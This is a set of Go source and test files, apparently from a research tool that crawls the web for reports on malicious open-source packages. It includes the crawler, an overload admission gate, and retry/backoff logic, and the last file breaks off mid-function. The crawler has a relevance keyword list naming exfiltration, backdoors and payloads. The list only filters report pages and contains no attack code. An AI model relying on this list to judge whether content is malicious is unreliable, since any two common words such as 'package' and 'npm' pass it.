		URL: "root", Site: "s", Title: "malicious package report", Body: reportBody,
		IsReport: true, Links: []string{"deadlink1", "deadlink2"},
	}); err != nil {
		t.Fatal(err)
	}
	c := New(w, w, Config{})
	res := c.Crawl(context.Background(), []string{"root"})
	if res.Errors != 2 {
		t.Fatalf("errors = %d, want 2", res.Errors)
	}
	if len(res.Relevant) != 1 {
		t.Fatalf("relevant = %d", len(res.Relevant))
	}
}

func TestCrawlContextCancel(t *testing.T) {
	w := buildWeb(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	c := New(w, w, Config{Workers: 1})
	done := make(chan Result, 1)
	go func() { done <- c.Crawl(ctx, []string{"https://vendor.example/reports/1"}) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("crawl did not stop on cancellation")
	}
}

func TestCrawlResultsSorted(t *testing.T) {
	w := buildWeb(t)
	c := New(w, w, Config{})
	res := c.Crawl(context.Background(), []string{"https://vendor.example/reports/1"})
	for i := 1; i < len(res.Relevant); i++ {
		if res.Relevant[i-1].URL >= res.Relevant[i].URL {
			t.Fatal("relevant pages not URL-sorted")
		}
	}
}

func TestRelevanceFilter(t *testing.T) {
	c := New(nil, nil, Config{})
	if c.Relevant(&webworld.Page{Title: "cat pictures", Body: "many cats"}) {
		t.Fatal("irrelevant page passed")
	}
	if !c.Relevant(&webworld.Page{Title: "malicious package", Body: "in the npm registry"}) {
		t.Fatal("relevant page rejected")
	}
}
