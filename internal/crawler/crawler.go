// Package crawler implements the report-collection crawler of §III-D (the
// Scrapy substitute): seeded with known security sites, it fetches pages
// concurrently, expands the frontier through hyperlinks and search-engine
// queries, deduplicates, and keeps only pages that pass a relevance filter —
// the automated analogue of the paper's "manually filter out irrelevant web
// pages" step.
package crawler

import (
	"context"
	"sort"
	"strings"
	"sync"

	"malgraph/internal/webworld"
)

// Fetcher retrieves a page by URL.
type Fetcher interface {
	Fetch(url string) (*webworld.Page, error)
}

// SearchEngine finds pages by keyword query.
type SearchEngine interface {
	Search(query string, limit int) []string
}

// Config bounds a crawl.
type Config struct {
	MaxPages     int // hard page-fetch budget (0 = 10,000)
	Workers      int // concurrent fetchers (0 = 4)
	SearchLimit  int // results taken per search expansion (0 = 20)
	SearchDepth  int // how many relevant pages trigger a search expansion (0 = 50)
	RelevanceMin int // minimum keyword hits for a page to be relevant (0 = 2)
}

func (c Config) withDefaults() Config {
	if c.MaxPages <= 0 {
		c.MaxPages = 10000
	}
	if c.Workers <= 0 {
		c.Workers = 4
	}
	if c.SearchLimit <= 0 {
		c.SearchLimit = 20
	}
	if c.SearchDepth <= 0 {
		c.SearchDepth = 50
	}
	if c.RelevanceMin <= 0 {
		c.RelevanceMin = 2
	}
	return c
}

// RelevanceKeywords are the default signals that a page discusses OSS
// malware; a page must contain Config.RelevanceMin of them.
var RelevanceKeywords = []string{
	"malicious", "package", "registry", "supply chain", "typosquat",
	"indicator", "compromise", "payload", "exfiltrat", "backdoor", "npm",
	"pypi", "rubygems",
}

// Result is the outcome of a crawl.
type Result struct {
	Relevant []*webworld.Page // pages passing the relevance filter, URL-sorted
	Fetched  int              // total pages fetched
	Skipped  int              // fetched but filtered out
	Errors   int              // fetch failures
}

// Crawler drives a crawl over a Fetcher and SearchEngine.
type Crawler struct {
	fetcher Fetcher
	search  SearchEngine
	cfg     Config
}

// New builds a crawler.
func New(fetcher Fetcher, search SearchEngine, cfg Config) *Crawler {
	return &Crawler{fetcher: fetcher, search: search, cfg: cfg.withDefaults()}
}

// Crawl walks the web from the seed URLs. Context cancellation stops the
// crawl early with the pages collected so far.
func (c *Crawler) Crawl(ctx context.Context, seeds []string) Result {
	type fetchOut struct {
		page *webworld.Page
		err  error
	}

	var (
		mu       sync.Mutex
		visited  = make(map[string]bool)
		frontier = make([]string, 0, len(seeds))
		relevant []*webworld.Page
		fetched  int
		skipped  int
		errCount int
		searched = make(map[string]bool)
	)
	enqueue := func(urls ...string) {
		for _, u := range urls {
			if !visited[u] {
				visited[u] = true
				frontier = append(frontier, u)
			}
		}
	}
	mu.Lock()
	enqueue(seeds...)
	mu.Unlock()

	sem := make(chan struct{}, c.cfg.Workers)
	var wg sync.WaitGroup

	for {
		mu.Lock()
		if len(frontier) == 0 || fetched >= c.cfg.MaxPages {
			mu.Unlock()
			wg.Wait()
			mu.Lock()
			if len(frontier) == 0 || fetched >= c.cfg.MaxPages {
				mu.Unlock()
				break
			}
			mu.Unlock()
			continue
		}
		url := frontier[0]
		frontier = frontier[1:]
		fetched++
		mu.Unlock()

		select {
		case <-ctx.Done():
			wg.Wait()
			return c.result(relevant, fetched, skipped, errCount)
		case sem <- struct{}{}:
		}
		wg.Add(1)
		go func(url string) {
			defer wg.Done()
			defer func() { <-sem }()
			page, err := c.fetcher.Fetch(url)
			out := fetchOut{page: page, err: err}

			mu.Lock()
			defer mu.Unlock()
			if out.err != nil {
				errCount++
				return
			}
			if !c.Relevant(out.page) {
				skipped++
				return
			}
			relevant = append(relevant, out.page)
			enqueue(out.page.Links...)
			// Search expansion: use the report title to find similar
			// coverage elsewhere (§III-D step 2), bounded by SearchDepth.
			if len(relevant) <= c.cfg.SearchDepth && !searched[out.page.Title] {
				searched[out.page.Title] = true
				enqueue(c.search.Search(out.page.Title, c.cfg.SearchLimit)...)
			}
		}(url)
	}
	wg.Wait()
	return c.result(relevant, fetched, skipped, errCount)
}

func (c *Crawler) result(relevant []*webworld.Page, fetched, skipped, errCount int) Result {
	sort.Slice(relevant, func(i, j int) bool { return relevant[i].URL < relevant[j].URL })
	return Result{Relevant: relevant, Fetched: fetched, Skipped: skipped, Errors: errCount}
}

// Relevant applies the keyword filter.
func (c *Crawler) Relevant(p *webworld.Page) bool {
	text := strings.ToLower(p.Title + " " + p.Body)
	hits := 0
	for _, kw := range RelevanceKeywords {
		if strings.Contains(text, kw) {
			hits++
			if hits >= c.cfg.RelevanceMin {
				return true
			}
		}
	}
	return false
}
