// Package admission implements overload protection for the serve API's
// mutating endpoints: a bounded in-flight gate (semaphore with a bounded
// queue wait) and a memory-watermark shedder. Real malicious-package feeds
// are bursty — report floods and registry scan storms arrive in campaign
// spikes — so the loader must shed load predictably instead of queueing
// without bound until memory or latency collapses.
//
// The degradation order is deliberate: reads are never gated (they serve
// from the published epoch, lock-free, at microsecond cost) while writes
// shed first — a saturated or memory-pressured loader keeps answering
// queries from the last consistent epoch and tells publishers exactly when
// to come back via a computed Retry-After.
package admission

import (
	"context"
	"errors"
	"runtime"
	"sync"
	"time"
)

// Shed errors. Both map to HTTP 429 at the serve layer; they are distinct
// so operators (and tests) can tell queue saturation from memory pressure.
var (
	// ErrSaturated means the in-flight gate stayed full past the bounded
	// wait: the loader is ingesting as fast as it can and the caller should
	// retry after the hint.
	ErrSaturated = errors.New("admission: ingest capacity saturated")
	// ErrMemoryPressure means the live heap is over the configured
	// watermark: writes shed immediately (no queueing — queued bodies are
	// themselves memory) until the heap drops back under.
	ErrMemoryPressure = errors.New("admission: memory watermark exceeded, shedding writes")
)

// Config bounds one Controller.
type Config struct {
	// MaxInflight is the number of concurrently admitted operations
	// (minimum 1). The engine serializes batch application behind its
	// ingest mutex anyway; this gate bounds how many decoded request
	// bodies and resolver runs can pile up in front of that mutex.
	MaxInflight int
	// MaxWait bounds how long an arriving operation may queue for a slot
	// before being shed with ErrSaturated. 0 sheds immediately when full.
	MaxWait time.Duration
	// MemWatermarkBytes sheds writes while the live heap exceeds it.
	// 0 disables the memory shedder.
	MemWatermarkBytes uint64
	// MemCheckEvery bounds how often the heap probe runs (ReadMemStats
	// stops the world briefly; probing per request would be its own
	// overload). Default 250ms.
	MemCheckEvery time.Duration
	// MaxRetryAfter caps the computed Retry-After hint. Default 30s.
	MaxRetryAfter time.Duration
	// ReadMem overrides the live-heap probe, for tests. Default:
	// runtime.ReadMemStats HeapAlloc.
	ReadMem func() uint64
}

// Stats is a point-in-time observability snapshot of a Controller.
type Stats struct {
	Inflight      int    `json:"inflight"`
	Waiters       int    `json:"waiters"`
	MaxInflight   int    `json:"maxInflight"`
	Admitted      uint64 `json:"admitted"`
	ShedSaturated uint64 `json:"shedSaturated"`
	ShedMemory    uint64 `json:"shedMemory"`
	MemShedding   bool   `json:"memShedding"`
}

// Controller is the admission gate. All methods are safe for concurrent
// use. The zero value is not usable; construct with New.
type Controller struct {
	cfg Config
	// sem holds one token per admitted in-flight operation; its capacity
	// is MaxInflight. Channel semantics make the fast path lock-free.
	sem chan struct{}

	mu       sync.Mutex
	waiters  int           // operations queued for a slot; guarded by mu
	admitted uint64        // operations admitted so far; guarded by mu
	ewmaHold time.Duration // smoothed per-operation hold time; guarded by mu
	shedSat  uint64        // sheds due to saturation; guarded by mu
	shedMem  uint64        // sheds due to memory pressure; guarded by mu
	memAt    time.Time     // last watermark probe instant; guarded by mu
	memHigh  bool          // last watermark probe verdict; guarded by mu
}

// New builds a Controller from cfg, applying defaults.
func New(cfg Config) *Controller {
	if cfg.MaxInflight < 1 {
		cfg.MaxInflight = 1
	}
	if cfg.MemCheckEvery <= 0 {
		cfg.MemCheckEvery = 250 * time.Millisecond
	}
	if cfg.MaxRetryAfter <= 0 {
		cfg.MaxRetryAfter = 30 * time.Second
	}
	return &Controller{cfg: cfg, sem: make(chan struct{}, cfg.MaxInflight)}
}

// Acquire admits one operation or sheds it. On success the returned
// release function MUST be called exactly once when the operation
// finishes (idempotent: extra calls are no-ops). On shed the error is
// ErrMemoryPressure, ErrSaturated, or the context's own error when the
// caller's deadline fired first.
func (c *Controller) Acquire(ctx context.Context) (release func(), err error) {
	if c.overWatermark() {
		c.mu.Lock()
		c.shedMem++
		c.mu.Unlock()
		return nil, ErrMemoryPressure
	}
	// Fast path: a slot is free right now.
	select {
	case c.sem <- struct{}{}:
		return c.admit(), nil
	default:
	}
	if c.cfg.MaxWait <= 0 {
		c.mu.Lock()
		c.shedSat++
		c.mu.Unlock()
		return nil, ErrSaturated
	}
	// Bounded queue: wait for a slot, the wait budget, or the caller's
	// context — whichever resolves first.
	c.mu.Lock()
	c.waiters++
	c.mu.Unlock()
	defer func() {
		c.mu.Lock()
		c.waiters--
		c.mu.Unlock()
	}()
	timer := time.NewTimer(c.cfg.MaxWait)
	defer timer.Stop()
	select {
	case c.sem <- struct{}{}:
		return c.admit(), nil
	case <-timer.C:
		c.mu.Lock()
		c.shedSat++
		c.mu.Unlock()
		return nil, ErrSaturated
	case <-ctx.Done():
		return nil, ctx.Err()
	}
}

// admit records the admission and returns the idempotent release func,
// which frees the slot and folds the hold duration into the EWMA the
// Retry-After hint is computed from.
func (c *Controller) admit() func() {
	c.mu.Lock()
	c.admitted++
	c.mu.Unlock()
	start := time.Now()
	var once sync.Once
	return func() {
		once.Do(func() {
			hold := time.Since(start)
			<-c.sem
			c.mu.Lock()
			if c.ewmaHold == 0 {
				c.ewmaHold = hold
			} else {
				c.ewmaHold = (3*c.ewmaHold + hold) / 4
			}
			c.mu.Unlock()
		})
	}
}

// RetryAfter estimates when a shed writer should come back: long enough
// for the line ahead of it (in-flight plus queued operations) to drain at
// the smoothed per-operation hold time. Never under a second — sub-second
// client retry loops would recreate the stampede the gate exists to stop —
// and capped at MaxRetryAfter so a long EWMA outlier cannot park
// publishers for minutes.
func (c *Controller) RetryAfter() time.Duration {
	c.mu.Lock()
	ewma, waiters := c.ewmaHold, c.waiters
	c.mu.Unlock()
	if ewma <= 0 {
		ewma = 100 * time.Millisecond // no history yet: assume cheap ops
	}
	line := len(c.sem) + waiters + 1
	d := ewma * time.Duration(line) / time.Duration(c.cfg.MaxInflight)
	if d < time.Second {
		d = time.Second
	}
	if d > c.cfg.MaxRetryAfter {
		d = c.cfg.MaxRetryAfter
	}
	return d
}

// Snapshot reports the gate's current shape for health/debug endpoints.
func (c *Controller) Snapshot() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Stats{
		Inflight:      len(c.sem),
		Waiters:       c.waiters,
		MaxInflight:   c.cfg.MaxInflight,
		Admitted:      c.admitted,
		ShedSaturated: c.shedSat,
		ShedMemory:    c.shedMem,
		MemShedding:   c.memHigh,
	}
}

// overWatermark reports whether the live heap is above the configured
// watermark, probing at most once per MemCheckEvery and serving the cached
// verdict in between.
func (c *Controller) overWatermark() bool {
	if c.cfg.MemWatermarkBytes == 0 {
		return false
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if now := time.Now(); now.Sub(c.memAt) >= c.cfg.MemCheckEvery {
		c.memAt = now
		c.memHigh = c.readMem() >= c.cfg.MemWatermarkBytes
	}
	return c.memHigh
}

func (c *Controller) readMem() uint64 {
	if c.cfg.ReadMem != nil {
		return c.cfg.ReadMem()
	}
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return ms.HeapAlloc
}
