package admission

import (
	"context"
	"errors"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestAcquireBoundsInflight(t *testing.T) {
	c := New(Config{MaxInflight: 2, MaxWait: 10 * time.Millisecond})
	r1, err := c.Acquire(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	r2, err := c.Acquire(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// Third acquire: the gate is full and stays full past MaxWait.
	if _, err := c.Acquire(context.Background()); !errors.Is(err, ErrSaturated) {
		t.Fatalf("third acquire err = %v, want ErrSaturated", err)
	}
	st := c.Snapshot()
	if st.Inflight != 2 || st.ShedSaturated != 1 || st.Admitted != 2 {
		t.Fatalf("stats = %+v", st)
	}
	r1()
	r1() // release is idempotent
	if _, err := c.Acquire(context.Background()); err != nil {
		t.Fatalf("acquire after release: %v", err)
	}
	r2()
}

func TestAcquireWaitsForSlot(t *testing.T) {
	c := New(Config{MaxInflight: 1, MaxWait: 5 * time.Second})
	release, err := c.Acquire(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var admitted atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		r, err := c.Acquire(context.Background())
		if err != nil {
			t.Errorf("queued acquire: %v", err)
			return
		}
		admitted.Store(true)
		r()
	}()
	// The queued acquire must not be admitted while the slot is held…
	time.Sleep(20 * time.Millisecond)
	if admitted.Load() {
		t.Fatal("queued acquire admitted while the gate was full")
	}
	// …and must be admitted promptly once it frees.
	release()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("queued acquire never admitted after release")
	}
}

func TestAcquireHonorsContext(t *testing.T) {
	c := New(Config{MaxInflight: 1, MaxWait: time.Minute})
	release, err := c.Acquire(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(10 * time.Millisecond)
		cancel()
	}()
	if _, err := c.Acquire(ctx); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestMemoryWatermarkShedsWrites(t *testing.T) {
	var heap atomic.Uint64
	heap.Store(100)
	c := New(Config{
		MaxInflight:       4,
		MemWatermarkBytes: 1000,
		MemCheckEvery:     time.Nanosecond, // re-probe on every call
		ReadMem:           heap.Load,
	})
	release, err := c.Acquire(context.Background())
	if err != nil {
		t.Fatalf("under watermark: %v", err)
	}
	release()
	heap.Store(2000)
	if _, err := c.Acquire(context.Background()); !errors.Is(err, ErrMemoryPressure) {
		t.Fatalf("over watermark err = %v, want ErrMemoryPressure", err)
	}
	if st := c.Snapshot(); st.ShedMemory != 1 || !st.MemShedding {
		t.Fatalf("stats = %+v", st)
	}
	// Pressure relieved: writes admitted again.
	heap.Store(100)
	release, err = c.Acquire(context.Background())
	if err != nil {
		t.Fatalf("after pressure relieved: %v", err)
	}
	release()
}

func TestRetryAfterBounds(t *testing.T) {
	c := New(Config{MaxInflight: 2, MaxRetryAfter: 5 * time.Second})
	// No history: the floor applies.
	if d := c.RetryAfter(); d != time.Second {
		t.Fatalf("cold RetryAfter = %v, want 1s", d)
	}
	// Fake a long hold history: the hint scales but stays capped.
	c.mu.Lock()
	c.ewmaHold = time.Minute
	c.waiters = 10
	c.mu.Unlock()
	if d := c.RetryAfter(); d != 5*time.Second {
		t.Fatalf("saturated RetryAfter = %v, want the 5s cap", d)
	}
}

// TestConcurrentAcquireRelease hammers the gate from many goroutines; run
// under -race this pins the lock discipline, and the final snapshot must
// balance (nothing in flight, everything admitted or shed).
func TestConcurrentAcquireRelease(t *testing.T) {
	c := New(Config{MaxInflight: 3, MaxWait: time.Second})
	var wg sync.WaitGroup
	var peak atomic.Int64
	var cur atomic.Int64
	for g := 0; g < 16; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				release, err := c.Acquire(context.Background())
				if err != nil {
					continue // shed under load is fine; imbalance is not
				}
				n := cur.Add(1)
				for {
					p := peak.Load()
					if n <= p || peak.CompareAndSwap(p, n) {
						break
					}
				}
				cur.Add(-1)
				release()
			}
		}()
	}
	wg.Wait()
	if p := peak.Load(); p > 3 {
		t.Fatalf("observed %d concurrent admissions, cap is 3", p)
	}
	st := c.Snapshot()
	if st.Inflight != 0 || st.Waiters != 0 {
		t.Fatalf("gate not drained: %+v", st)
	}
	if st.Admitted+st.ShedSaturated != 16*20 {
		t.Fatalf("admitted %d + shed %d != %d ops", st.Admitted, st.ShedSaturated, 16*20)
	}
}
