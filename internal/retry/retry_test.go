package retry

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"net/http"
	"testing"
	"time"
)

func noSleep(delays *[]time.Duration) func(context.Context, time.Duration) error {
	return func(_ context.Context, d time.Duration) error {
		*delays = append(*delays, d)
		return nil
	}
}

func TestDoRetriesOnlyMarkedErrors(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 4, BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second, Sleep: noSleep(&delays)}

	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls < 3 {
			return Mark(errors.New("transient"))
		}
		return nil
	})
	if err != nil || calls != 3 {
		t.Fatalf("err=%v calls=%d, want success on 3rd try", err, calls)
	}
	if len(delays) != 2 {
		t.Fatalf("slept %d times, want 2", len(delays))
	}

	calls = 0
	permanent := errors.New("not found")
	err = p.Do(context.Background(), func(context.Context) error {
		calls++
		return permanent
	})
	if !errors.Is(err, permanent) || calls != 1 {
		t.Fatalf("permanent error must not be retried: err=%v calls=%d", err, calls)
	}
}

func TestDoExhaustsBudgetAndKeepsCause(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 3, BaseDelay: 10 * time.Millisecond, Sleep: noSleep(&delays)}
	cause := errors.New("boom")
	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		return Mark(fmt.Errorf("attempt %d: %w", calls, cause))
	})
	if calls != 3 {
		t.Fatalf("calls=%d, want 3", calls)
	}
	if !errors.Is(err, cause) {
		t.Fatalf("exhausted error lost its cause: %v", err)
	}
}

func TestDelayGrowsExponentiallyAndCaps(t *testing.T) {
	p := Policy{Attempts: 6, BaseDelay: 10 * time.Millisecond, MaxDelay: 40 * time.Millisecond}
	want := []time.Duration{10, 20, 40, 40, 40}
	for i, w := range want {
		if got := p.delay(i); got != w*time.Millisecond {
			t.Fatalf("delay(%d) = %v, want %v", i, got, w*time.Millisecond)
		}
	}
}

func TestDelayJitterStaysBounded(t *testing.T) {
	p := Policy{
		Attempts: 2, BaseDelay: 100 * time.Millisecond, MaxDelay: time.Second,
		Jitter: 0.5, Rand: rand.New(rand.NewSource(1)),
	}
	for i := 0; i < 200; i++ {
		d := p.delay(0)
		if d < 75*time.Millisecond || d > 125*time.Millisecond {
			t.Fatalf("jittered delay %v outside [75ms,125ms]", d)
		}
	}
}

func TestDoStopsOnContextCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	p := Policy{Attempts: 5, BaseDelay: time.Millisecond}
	calls := 0
	err := p.Do(ctx, func(context.Context) error {
		calls++
		return Mark(errors.New("transient"))
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if calls != 1 {
		t.Fatalf("calls = %d, want 1 (no retry after cancel)", calls)
	}
}

func TestDoHonorsRetryAfterHint(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 3, BaseDelay: 10 * time.Millisecond, MaxDelay: 5 * time.Second, Sleep: noSleep(&delays)}
	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls == 1 {
			return MarkAfter(errors.New("503 busy"), 2*time.Second)
		}
		return nil
	})
	if err != nil || calls != 2 {
		t.Fatalf("err=%v calls=%d", err, calls)
	}
	// The server's 2s hint dominates the 10ms backoff.
	if len(delays) != 1 || delays[0] != 2*time.Second {
		t.Fatalf("delays = %v, want [2s]", delays)
	}
}

func TestDoCapsRetryAfterAtMaxDelay(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 3, BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second, Sleep: noSleep(&delays)}
	calls := 0
	_ = p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls == 1 {
			return MarkAfter(errors.New("503 busy"), time.Hour)
		}
		return nil
	})
	if len(delays) != 1 || delays[0] != time.Second {
		t.Fatalf("delays = %v, want the hint capped at MaxDelay [1s]", delays)
	}
}

func TestThrottledDoesNotConsumeFailureBudget(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 2, BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second, Sleep: noSleep(&delays)}
	// 5 throttled answers then success: a 2-attempt failure budget would
	// have given up long before, but throttles burn the (4×) throttle
	// budget instead.
	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls <= 5 {
			return MarkThrottled(errors.New("429 shed"), 20*time.Millisecond)
		}
		return nil
	})
	if err != nil || calls != 6 {
		t.Fatalf("err=%v calls=%d, want success on 6th try", err, calls)
	}
	for i, d := range delays {
		if d != 20*time.Millisecond {
			t.Fatalf("delay %d = %v, want the 20ms server hint", i, d)
		}
	}

	// The throttle budget is itself bounded: endless 429s eventually give up.
	calls = 0
	err = p.Do(context.Background(), func(context.Context) error {
		calls++
		return MarkThrottled(errors.New("429 forever"), 0)
	})
	if err == nil || calls != 8 { // ThrottleAttempts defaults to 4×Attempts
		t.Fatalf("err=%v calls=%d, want failure after 8 throttled tries", err, calls)
	}
	if !IsThrottled(err) {
		t.Fatal("exhausted throttle error must stay identifiable")
	}

	// A mix: failures still bounded by Attempts regardless of throttles.
	calls = 0
	err = p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls == 1 {
			return MarkThrottled(errors.New("429"), 0)
		}
		return Mark(errors.New("transport down"))
	})
	if err == nil || calls != 3 { // 1 throttle + 2 failures (Attempts=2)
		t.Fatalf("err=%v calls=%d, want 3 calls", err, calls)
	}
}

func TestParseRetryAfter(t *testing.T) {
	if d, ok := ParseRetryAfter("7"); !ok || d != 7*time.Second {
		t.Fatalf("seconds form: %v %v", d, ok)
	}
	if _, ok := ParseRetryAfter(""); ok {
		t.Fatal("empty header must not parse")
	}
	if _, ok := ParseRetryAfter("soon"); ok {
		t.Fatal("garbage must not parse")
	}
	if _, ok := ParseRetryAfter("-3"); ok {
		t.Fatal("negative seconds must not parse")
	}
	future := time.Now().Add(10 * time.Second).UTC().Format(http.TimeFormat)
	if d, ok := ParseRetryAfter(future); !ok || d <= 0 || d > 10*time.Second {
		t.Fatalf("http-date form: %v %v", d, ok)
	}
	past := time.Now().Add(-time.Hour).UTC().Format(http.TimeFormat)
	if d, ok := ParseRetryAfter(past); !ok || d != 0 {
		t.Fatalf("past http-date must parse as 0: %v %v", d, ok)
	}
}

func TestMarkSurvivesWrapping(t *testing.T) {
	err := fmt.Errorf("outer: %w", Mark(errors.New("inner")))
	if !IsRetryable(err) {
		t.Fatal("wrapped marked error must stay retryable")
	}
	if IsRetryable(errors.New("plain")) {
		t.Fatal("plain error must not be retryable")
	}
	if Mark(nil) != nil {
		t.Fatal("Mark(nil) must be nil")
	}
}
