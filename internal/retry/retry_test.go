package retry

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"testing"
	"time"
)

func noSleep(delays *[]time.Duration) func(context.Context, time.Duration) error {
	return func(_ context.Context, d time.Duration) error {
		*delays = append(*delays, d)
		return nil
	}
}

func TestDoRetriesOnlyMarkedErrors(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 4, BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second, Sleep: noSleep(&delays)}

	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		if calls < 3 {
			return Mark(errors.New("transient"))
		}
		return nil
	})
	if err != nil || calls != 3 {
		t.Fatalf("err=%v calls=%d, want success on 3rd try", err, calls)
	}
	if len(delays) != 2 {
		t.Fatalf("slept %d times, want 2", len(delays))
	}

	calls = 0
	permanent := errors.New("not found")
	err = p.Do(context.Background(), func(context.Context) error {
		calls++
		return permanent
	})
	if !errors.Is(err, permanent) || calls != 1 {
		t.Fatalf("permanent error must not be retried: err=%v calls=%d", err, calls)
	}
}

func TestDoExhaustsBudgetAndKeepsCause(t *testing.T) {
	var delays []time.Duration
	p := Policy{Attempts: 3, BaseDelay: 10 * time.Millisecond, Sleep: noSleep(&delays)}
	cause := errors.New("boom")
	calls := 0
	err := p.Do(context.Background(), func(context.Context) error {
		calls++
		return Mark(fmt.Errorf("attempt %d: %w", calls, cause))
	})
	if calls != 3 {
		t.Fatalf("calls=%d, want 3", calls)
	}
	if !errors.Is(err, cause) {
		t.Fatalf("exhausted error lost its cause: %v", err)
	}
}

func TestDelayGrowsExponentiallyAndCaps(t *testing.T) {
	p := Policy{Attempts: 6, BaseDelay: 10 * time.Millisecond, MaxDelay: 40 * time.Millisecond}
	want := []time.Duration{10, 20, 40, 40, 40}
	for i, w := range want {
		if got := p.delay(i); got != w*time.Millisecond {
			t.Fatalf("delay(%d) = %v, want %v", i, got, w*time.Millisecond)
		}
	}
}

func TestDelayJitterStaysBounded(t *testing.T) {
	p := Policy{
		Attempts: 2, BaseDelay: 100 * time.Millisecond, MaxDelay: time.Second,
		Jitter: 0.5, Rand: rand.New(rand.NewSource(1)),
	}
	for i := 0; i < 200; i++ {
		d := p.delay(0)
		if d < 75*time.Millisecond || d > 125*time.Millisecond {
			t.Fatalf("jittered delay %v outside [75ms,125ms]", d)
		}
	}
}

func TestDoStopsOnContextCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	p := Policy{Attempts: 5, BaseDelay: time.Millisecond}
	calls := 0
	err := p.Do(ctx, func(context.Context) error {
		calls++
		return Mark(errors.New("transient"))
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if calls != 1 {
		t.Fatalf("calls = %d, want 1 (no retry after cancel)", calls)
	}
}

func TestMarkSurvivesWrapping(t *testing.T) {
	err := fmt.Errorf("outer: %w", Mark(errors.New("inner")))
	if !IsRetryable(err) {
		t.Fatal("wrapped marked error must stay retryable")
	}
	if IsRetryable(errors.New("plain")) {
		t.Fatal("plain error must not be retryable")
	}
	if Mark(nil) != nil {
		t.Fatal("Mark(nil) must be nil")
	}
}
