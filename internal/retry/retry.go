// Package retry implements bounded exponential backoff with jitter for the
// network edges of the pipeline (registry clients, malgraphctl push). Only
// errors explicitly marked retryable — transport failures and 5xx answers —
// are retried; definitive answers (404 takedowns, 4xx rejections) must pass
// through untouched so the PR 3 ErrNotFound/ErrUnresolved contract survives.
package retry

import (
	"context"
	"errors"
	"math/rand"
	"time"
)

// Policy bounds a retry loop: at most Attempts tries, sleeping
// BaseDelay·2^n (capped at MaxDelay) between them, with up to Jitter
// fraction of each delay randomized away so synchronized clients do not
// stampede a recovering endpoint.
type Policy struct {
	// Attempts is the total number of tries, including the first (min 1).
	Attempts int
	// BaseDelay is the sleep before the second attempt.
	BaseDelay time.Duration
	// MaxDelay caps the exponential growth.
	MaxDelay time.Duration
	// Jitter in [0,1] is the fraction of each delay drawn uniformly at
	// random (equal jitter: delay/2 fixed + delay/2 random at Jitter=1).
	Jitter float64
	// Sleep replaces the wait between attempts, for tests. nil sleeps on
	// a timer, honouring ctx cancellation.
	Sleep func(ctx context.Context, d time.Duration) error
	// Rand supplies jitter randomness; nil uses math/rand's global source.
	Rand *rand.Rand
}

// Default is the policy used by the registry client and push paths: three
// tries, 50ms base doubling to a 2s cap, half-jittered.
func Default() Policy {
	return Policy{Attempts: 3, BaseDelay: 50 * time.Millisecond, MaxDelay: 2 * time.Second, Jitter: 0.5}
}

// Do runs op until it succeeds, returns a non-retryable error, or the
// attempt budget is spent. The last error is returned verbatim (minus the
// retryable marker), so errors.Is checks against the underlying cause work.
func (p Policy) Do(ctx context.Context, op func(ctx context.Context) error) error {
	if p.Attempts < 1 {
		p.Attempts = 1
	}
	var err error
	for attempt := 0; attempt < p.Attempts; attempt++ {
		if attempt > 0 {
			if serr := p.sleep(ctx, p.delay(attempt-1)); serr != nil {
				return serr
			}
		}
		err = op(ctx)
		if err == nil || !IsRetryable(err) {
			return err
		}
	}
	return err
}

func (p Policy) delay(n int) time.Duration {
	d := p.BaseDelay
	if d <= 0 {
		return 0
	}
	for i := 0; i < n && d < p.MaxDelay; i++ {
		d *= 2
	}
	if p.MaxDelay > 0 && d > p.MaxDelay {
		d = p.MaxDelay
	}
	if p.Jitter > 0 {
		j := p.Jitter
		if j > 1 {
			j = 1
		}
		span := float64(d) * j
		var u float64
		if p.Rand != nil {
			u = p.Rand.Float64()
		} else {
			u = rand.Float64()
		}
		d = time.Duration(float64(d) - span/2 + u*span)
	}
	return d
}

func (p Policy) sleep(ctx context.Context, d time.Duration) error {
	if p.Sleep != nil {
		return p.Sleep(ctx, d)
	}
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
